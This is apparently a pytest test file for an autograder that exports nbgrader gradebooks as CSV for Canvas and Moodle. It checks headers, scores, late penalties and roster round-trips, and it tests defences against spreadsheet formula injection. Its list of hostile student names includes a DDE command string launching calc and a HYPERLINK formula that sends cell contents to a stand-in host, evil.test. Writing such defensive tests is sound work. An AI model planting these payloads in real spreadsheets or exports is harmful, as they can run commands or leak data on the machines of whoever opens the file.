"""The gradebook as CSV for Canvas and Moodle, read back by the rules of their importers."""

from __future__ import annotations

import csv
import logging
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from nbgrader.api import Gradebook

from autograder import paths, roster, spreadsheet
from autograder.nbgrader.export import CanvasExportPlugin, CsvExportPlugin, MoodleExportPlugin


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gradebook]:
    """Two assignments, three students: all handed in, one handed in and waiting for marks, nothing handed in."""
    file = tmp_path_factory.mktemp("book") / "gradebook.db"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", str(Path(sys.executable).parent), prepend=os.pathsep)  # nbgrader calls alembic
        gradebook = Gradebook(f"sqlite:///{file}")
    for name in ("a2_second", "a1_first"):
        gradebook.add_assignment(name)
        gradebook.add_notebook("n", name)
        gradebook.add_grade_cell("test_x", "n", name, max_score=4, cell_type="code")
        gradebook.add_grade_cell("why", "n", name, max_score=2, cell_type="markdown")
    gradebook.add_student("s01", first_name='Ä, "b"', last_name="=1+1", email="s01@example.org", lms_user_id="77")
    gradebook.add_student("s02")
    gradebook.add_student("s03")
    _hand_in(gradebook, "a1_first", "s01", 3.456, 2.0)
    _hand_in(gradebook, "a2_second", "s01", 4.0, 1.0, penalty=6.5)
    _hand_in(gradebook, "a1_first", "s02", 1.0, None)
    yield gradebook
    gradebook.close()


def _hand_in(
    gradebook: Gradebook, assignment: str, student: str, auto: float, manual: float | None, penalty: float = 0.0
) -> None:
    gradebook.add_submission(assignment, student)
    tested = gradebook.find_grade("test_x", "n", assignment, student)
    tested.auto_score, tested.needs_manual_grade = auto, False
    written = gradebook.find_grade("why", "n", assignment, student)
    written.manual_score, written.needs_manual_grade = manual, manual is None
    gradebook.find_submission_notebook("n", assignment, student).late_submission_penalty = penalty
    gradebook.db.commit()


def export(plugin: Any, book: Gradebook, file: Path, **options: Any) -> list[list[str]]:
    made = plugin(to=str(file), log=logging.getLogger("export"), **options)
    made.export(book)
    with file.open(newline="", encoding="utf-8") as text:
        return list(csv.reader(text))


def test_canvas(book: Gradebook, tmp_path: Path) -> None:
    head, possible, *rows = export(CanvasExportPlugin, book, tmp_path / "canvas.csv")
    # what lib/gradebook_importer.rb asks of a header and of the second row
    assert "Student" in head[0] and "ID" in head[1] and head[2] == "SIS Login ID" and "Section" in head[3]
    assert head[4:] == ["a1_first", "a2_second"]
    assert "Points Possible" in possible[0] and possible[4:] == ["6.00", "6.00"]
    assert {len(row) for row in rows} == {6}
    assert rows[0] == ['\'=1+1, Ä, "b"', "77", "s01", "", "5.46", "0.00"]  # a penalty ends at zero
    assert rows[1] == ["s02", "", "s02", "", "1.00", ""]
    assert rows[2] == ["s03", "", "s03", "", "", ""]  # nothing handed in is no grade, not a zero


def test_moodle(book: Gradebook, tmp_path: Path) -> None:
    head, *rows = export(MoodleExportPlugin, book, tmp_path / "moodle.csv")
    assert head == ["First name", "Last name", "Username", "Email address", "a1_first", "a2_second"]
    assert rows[0] == ['Ä, "b"', "'=1+1", "s01", "s01@example.org", "5.46", "0.00"]
    assert rows[1][2:] == ["s02", "", "1.00", ""]


def test_some_of_it(book: Gradebook, tmp_path: Path) -> None:
    options: dict[str, Any] = {"student": ["s02"], "assignment": ["a1_first"]}
    rows = export(CanvasExportPlugin, book, tmp_path / "some.csv", **options)
    assert [row[2] for row in rows] == ["SIS Login ID", "", "s02"]
    assert rows[0][4:] == ["a1_first"]


def test_waiting_marks_are_mentioned(book: Gradebook, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, "export"):
        export(CanvasExportPlugin, book, tmp_path / "canvas.csv")
    assert "a1_first: 1 submissions still wait for marks" in caplog.text
    assert "a2_second" not in caplog.text


# ---- names that a spreadsheet would compute ----

COMPUTED = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\uff1d1",  # full-width =
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\ufe631",  # small hyphen
    "\u200b=1",
    "'=1",
    '"=1"',
    "x;=1",
    "x;'=1",
    'x,"=1"',
    "x\n=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?"&A1)',
]
EXPORTS = [CanvasExportPlugin, MoodleExportPlugin, CsvExportPlugin]


def computed(file: Path) -> list[str]:
    """Cells that a spreadsheet would compute, with commas or with semicolons for separators."""
    found = []
    for delimiter in ",;":
        with file.open(newline="", encoding="utf-8") as text:
            cells = [cell for row in csv.reader(text, delimiter=delimiter) for cell in row]
        found += [cell for cell in cells if cell.strip("\"' ")[:1] in {*spreadsheet.SIGNS} and cell[:1] not in "'\t"]
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gradebook]:
    """A student for each text, who has it for a name, and for what of login and address it can be."""
    file = tmp_path_factory.mktemp("hostile") / "gradebook.db"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", str(Path(sys.executable).parent), prepend=os.pathsep)
        gradebook = Gradebook(f"sqlite:///{file}")
    gradebook.add_assignment("a1_first")
    for number, text in enumerate(COMPUTED):
        sign = spreadsheet.text(text)[1:].strip()[:1]
        facts = {"email": f"{sign}{number}@example.org", "lms_user_id": f"{100 + number}"}
        gradebook.add_student(f"{sign}{number}", first_name=text, last_name=text, **facts)
    gradebook.add_student("-ada", first_name="Ada", last_name="Lovelace")
    gradebook.add_student("bob", first_name="=Bob")
    yield gradebook
    gradebook.close()


@pytest.mark.parametrize("plugin", EXPORTS)
def test_no_cell_is_computed(plugin: Any, hostile: Gradebook, tmp_path: Path) -> None:
    rows = export(plugin, hostile, tmp_path / "out.csv")
    assert len(rows) >= len(COMPUTED) + 1 and len({len(row) for row in rows}) == 1
    assert not computed(tmp_path / "out.csv")
    assert not [cell for row in rows for cell in row if {*cell.lstrip("\t")} & {*"\t\r\n\u200b"}]


@pytest.mark.parametrize("plugin", EXPORTS)
def test_an_export_is_a_roster_of_the_same_people(plugin: Any, hostile: Gradebook, tmp_path: Path) -> None:
    export(plugin, hostile, tmp_path / "out.csv")
    found = {one.id: one for one in roster.read(tmp_path / "out.csv").students}
    there = {one.id: one for one in hostile.students}
    assert found.keys() == there.keys()
    for login, one in found.items():
        assert one.email in ("", there[login].email) and one.lms_id in ("", there[login].lms_user_id)
        name = there[login].last_name or ""
        if not {*name} & {*"\n\t\r\u200b"}:  # those are written out
            whole = f"{one.last_name},{one.first_name}"  # Canvas' one cell is parted at its first comma
            assert name.replace(" ", "") in whole.replace(" ", "")


@pytest.mark.parametrize("text", [*COMPUTED, "O'Brien", "'t Hooft", "a;b", "", "-", "Ada"])
def test_what_is_read_is_what_was_written(text: str) -> None:
    visible = text.replace("\r", "⟨U+000D⟩").replace("\u200b", "⟨U+200B⟩").strip().replace("\n", "⟨U+000A⟩")
    assert spreadsheet.read(spreadsheet.text(text)) == visible


def test_what_importers_find_people_by_arrives_as_it_was(hostile: Gradebook, tmp_path: Path) -> None:
    """Moodle trims each cell; Canvas looks at its id, and at the login only where there is none."""
    _, *rows = export(MoodleExportPlugin, hostile, tmp_path / "moodle.csv")
    assert {(row[2].strip(), row[3].strip()) for row in rows} == {(one.id, one.email or "") for one in hostile.students}
    _, _, *rows = export(CanvasExportPlugin, hostile, tmp_path / "canvas.csv")
    assert {row[1] for row in rows} == {one.lms_user_id or "" for one in hostile.students}


def test_a_login_that_canvas_cannot_find_is_said(
    hostile: Gradebook, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, "export"):
        export(CanvasExportPlugin, hostile, tmp_path / "canvas.csv")
    assert [record.getMessage()[:6] for record in caplog.records] == ["'-ada:"]


def test_nbgraders_own_columns(book: Gradebook, tmp_path: Path) -> None:
    head, *body = export(CsvExportPlugin, book, tmp_path / "g.csv")
    rows = [dict(zip(head, row, strict=True)) for row in body]
    first = next(row for row in rows if (row["student_id"], row["assignment"]) == ("s01", "a1_first"))
    assert (first["last_name"], first["first_name"], first["email"]) == ("'=1+1", 'Ä, "b"', "s01@example.org")
    assert float(first["raw_score"]) == float(first["score"]) == pytest.approx(5.456) and first["max_score"] == "6.0"
    late = next(row for row in rows if (row["student_id"], row["assignment"]) == ("s01", "a2_second"))
    assert (late["raw_score"], late["late_submission_penalty"], late["score"]) == ("5.0", "6.5", "0.0")
    nothing = next(row for row in rows if (row["student_id"], row["assignment"]) == ("s03", "a1_first"))
    assert nothing["score"] == "0.0" and nothing["timestamp"] == ""


def test_through_nbgrader(book: Gradebook, tmp_path: Path) -> None:
    """As instructors call it."""
    line = [sys.executable, "-m", "nbgrader", "export", "--to", "out.csv", "--db", str(book.engine.url)]
    line += ["--exporter=autograder.nbgrader.export.MoodleExportPlugin"]
    environment = {**os.environ, "PYTHONPATH": str(paths.ROOT), "HOME": str(tmp_path)}
    subprocess.run(line, cwd=tmp_path, env=environment, check=True, capture_output=True)
    assert (tmp_path / "out.csv").read_text(encoding="utf-8").startswith("First name,")
